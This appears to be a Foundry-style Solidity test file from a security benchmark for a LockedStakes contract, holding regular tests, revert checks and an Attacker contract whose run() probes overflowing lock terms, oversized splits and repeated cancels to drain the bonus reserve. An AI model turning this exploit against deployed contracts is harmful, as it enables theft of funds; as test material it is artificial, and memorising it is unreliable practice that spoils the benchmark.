pragma solidity 0.4.26;

import "./LockedStakes.sol";

// assay-canary-81af68e3-8c2a-4825-9fb9-3204f2724d72

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Attacker {
    LockedStakes private stakes;

    constructor(LockedStakes _stakes) public {
        stakes = _stakes;
    }

    function _try(bytes memory _data) private returns (bool) {
        return address(stakes).call(_data);
    }

    // locks ether, and tries to get it back at once with its bonus
    function _round(uint256 _value, uint256 _term) private {
        uint256 id = stakes.count();
        if (!address(stakes).call.value(_value)(abi.encodeWithSelector(stakes.lock.selector, _term))) return;
        if (!_try(abi.encodeWithSelector(stakes.release.selector, id, address(this)))) {
            _try(abi.encodeWithSelector(stakes.cancel.selector, id));
            _try(abi.encodeWithSelector(stakes.release.selector, id, address(this)));
        }
    }

    function run() external {
        // in the place of others
        _try(abi.encodeWithSelector(stakes.assign.selector, 0, address(this)));
        _try(abi.encodeWithSelector(stakes.split.selector, 0, 1 ether));
        _try(abi.encodeWithSelector(stakes.release.selector, 0, address(this)));
        _try(abi.encodeWithSelector(stakes.cancel.selector, 0));
        // terms that end beyond 64 bits, or beyond 256
        for (uint256 i = 0; i < 6; i++) {
            _round(address(this).balance, 2 ** 64);
        }
        _round(1 ether, 2 ** 64 - 1);
        _round(1 ether, 2 ** 64 - now);
        _round(1 ether, 2 ** 128);
        _round(1 ether, 2 ** 256 - 1);
        _round(1 ether, uint256(0) - now);
        // amounts beyond 128 bits
        uint256 id = stakes.count();
        if (!address(stakes).call.value(1 ether)(abi.encodeWithSelector(stakes.lock.selector, 30 days))) return;
        _try(abi.encodeWithSelector(stakes.split.selector, id, 2 ** 128));
        _try(abi.encodeWithSelector(stakes.split.selector, id, 2 ** 128 + 1));
        _try(abi.encodeWithSelector(stakes.split.selector, id, 2 ** 128 - 1));
        _try(abi.encodeWithSelector(stakes.split.selector, id, 2 ether));
        _try(abi.encodeWithSelector(stakes.split.selector, id, 0));
        // many parts
        for (i = 1; i < 10; i++) {
            _try(abi.encodeWithSelector(stakes.split.selector, id, i));
        }
        for (i = 0; i < 12; i++) {
            _try(abi.encodeWithSelector(stakes.cancel.selector, id + i));
            _try(abi.encodeWithSelector(stakes.cancel.selector, id + i));
        }
    }

    function () external payable {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant BANK = address(0xBA);
    uint256 private constant START = 1500000000;

    LockedStakes private stakes;
    Attacker private outsider;

    function setUp() public {
        vm.warp(START);
        stakes = new LockedStakes();
        vm.deal(BANK, 30 ether);
        vm.prank(BANK);
        stakes.fund.value(30 ether)();
        vm.deal(ANA, 20 ether);
        vm.prank(ANA);
        stakes.lock.value(10 ether)(1460 days);
        outsider = new Attacker(stakes);
        vm.deal(address(outsider), 10 ether);
    }

    function test_Regular() public {
        require(stakes.reserve() == 28 ether && stakes.count() == 1, "locked");
        vm.startPrank(ANA);
        uint256 second = stakes.lock.value(7.3 ether)(30 days);
        require(stakes.reserve() == 27.97 ether, "a short one");
        uint256 third = stakes.split(0, 4 ether);
        stakes.assign(third, BEN);
        stakes.cancel(0);
        vm.stopPrank();
        require(ANA.balance == 2.7 ether + 5.94 ether && stakes.reserve() == 29.23 ether, "cancelled");
        vm.warp(START + 30 days);
        vm.prank(ANA);
        stakes.release(second, BEN);
        require(BEN.balance == 7.33 ether, "released");
        vm.warp(START + 1460 days);
        vm.prank(BEN);
        stakes.release(third, ANA);
        require(ANA.balance == 13.44 ether && address(stakes).balance == 29.23 ether, "the reserve is left");
        vm.deal(BEN, 1 ether);
        vm.prank(BEN);
        stakes.lock.value(1 ether)(2 ** 64 - 1 - now);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesLocks() public {
        vm.deal(ANA, 200 ether);
        vm.startPrank(ANA);
        vm.expectRevert("no amount");
        stakes.lock(30 days);
        vm.expectRevert("too short");
        stakes.lock.value(1 ether)(30 days - 1);
        vm.expectRevert("overflow");
        stakes.lock.value(1 ether)(uint256(0) - now);
        vm.expectRevert("reserve too small");
        stakes.lock.value(141 ether)(1460 days);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.startPrank(ANA);
        vm.expectRevert("over 128 bits");
        stakes.split(0, 2 ** 128 + 1 ether);
        vm.expectRevert("no part");
        stakes.split(0, 0);
        vm.expectRevert("no part");
        stakes.split(0, 10 ether);
        vm.expectRevert("no account");
        stakes.assign(0, address(0));
        vm.warp(START + 1460 days - 1);
        vm.expectRevert("locked");
        stakes.release(0, ANA);
        vm.warp(START + 1460 days);
        vm.expectRevert("not locked");
        stakes.cancel(0);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("not owner");
        stakes.split(0, 1 ether);
        vm.expectRevert("not owner");
        stakes.assign(0, BEN);
        vm.expectRevert("not owner");
        stakes.cancel(0);
        vm.warp(START + 1460 days);
        vm.expectRevert("not owner");
        stakes.release(0, BEN);
        vm.stopPrank();
    }

    function exploit() public {
        outsider.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(outsider).balance >= 25 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(stakes);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
